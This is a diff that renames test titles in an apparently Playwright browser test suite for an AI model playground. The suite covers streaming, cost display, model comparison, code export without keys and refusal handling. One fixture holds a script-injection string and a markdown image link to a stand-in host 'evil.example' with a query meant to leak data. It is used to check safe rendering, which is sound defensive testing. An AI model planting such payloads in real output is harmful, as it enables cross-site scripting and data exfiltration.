@@ -37,7 +37,7 @@ function playground(launched: () => Browser): void {
     await message().press('Enter');
   };
 
-  test('an answer is streamed, with what was thought folded away, and costs what its line in the log says', async () => {
+  test('streams an answer, with the thinking collapsed, and costs the same as its line in the log', async () => {
     const { page } = opened;
     const text = 'A ledger is a **book**. <script>alert(1)</script> ![x](https://evil.example/?told=all)';
     gateway.provider.script(model, { text, reasoning: 'What do they want?' });
@@ -64,7 +64,7 @@ function playground(launched: () => Browser): void {
     await page.getByRole('heading', { name: 'Playground', level: 1 }).waitFor();
   });
 
-  test('what goes on is sent along, and an answer that is stopped is charged for what came', async () => {
+  test('sends the conversation along, and a stopped answer is charged for the part that arrived', async () => {
     gateway.provider.script(model, { text: 'Four.' });
     await ask('What is two and two?');
     await answers().getByText('Four.').waitFor();
@@ -83,7 +83,7 @@ function playground(launched: () => Browser): void {
     ]);
   });
 
-  test('a question is edited, and settings and a picture go with it', async () => {
+  test('edits a question, and sends settings and a picture with it', async () => {
     const { page } = opened;
     gateway.provider.script(model, { text: 'A red dot.' });
     await button('Edit this message').nth(1).click();
@@ -125,7 +125,7 @@ function playground(launched: () => Browser): void {
     ]);
   });
 
-  test('two models answer beside each other, each with its own cost, and settings outlive the page', async () => {
+  test('shows two models beside each other, each with its own cost, and keeps settings after a reload', async () => {
     const { page } = opened;
     await page.getByText('Compare two models').click();
     await page.getByLabel('Compared with').fill(other);
@@ -143,7 +143,7 @@ function playground(launched: () => Browser): void {
     expect(right?.x).toBeGreaterThan((left?.x ?? 0) + (left?.width ?? 0));
   });
 
-  test('the models to choose among are those of the group', async () => {
+  test('offers the models of the group', async () => {
     const { page } = opened;
     const models = page.getByLabel('Model', { exact: true });
     await models.click();
@@ -161,7 +161,7 @@ function playground(launched: () => Browser): void {
     await page.getByRole('option', { name: model, exact: true }).click();
   });
 
-  test('the request is shown as code, without anybody’s key', async () => {
+  test('shows the request as code, without any key', async () => {
     const { page } = opened;
     await button('Copy as code').click();
     const dialog = page.getByRole('dialog', { name: 'Copy as code' });
@@ -178,7 +178,7 @@ function playground(launched: () => Browser): void {
     await dialog.waitFor({ state: 'detached' });
   });
 
-  test('a refusal is told with the id of its request, and asked again it is answered', async () => {
+  test('shows a refusal with its request id, and a retry is answered', async () => {
     gateway.provider.script(model, { kind: 'refuse', status: 400, body: { error: { message: 'not like this' } } });
     await ask('Once more?');
     const refused = answers().nth(1).getByRole('alert');
@@ -188,7 +188,7 @@ function playground(launched: () => Browser): void {
     await answers().nth(1).getByText('Now.').waitFor();
   });
 
-  test('is free of barriers, light and dark, and fits a phone', async () => {
+  test('has no barriers, light and dark, and fits a phone', async () => {
     const { page } = opened;
     await expectNoBarriers(page);
     await page.setViewportSize({ width: 600, height: 900 });
@@ -196,9 +196,9 @@ function playground(launched: () => Browser): void {
     expect(await page.evaluate<number>(overflow)).toBe(0);
   });
 
-  test('nothing went wrong in the page on the way', () => {
+  test('had no error in the page', () => {
     expect(opened.problems).toEqual([]);
   });
 }
 
-describeInBrowser('the playground', playground);
+describeInBrowser('the playground in the browser', playground);
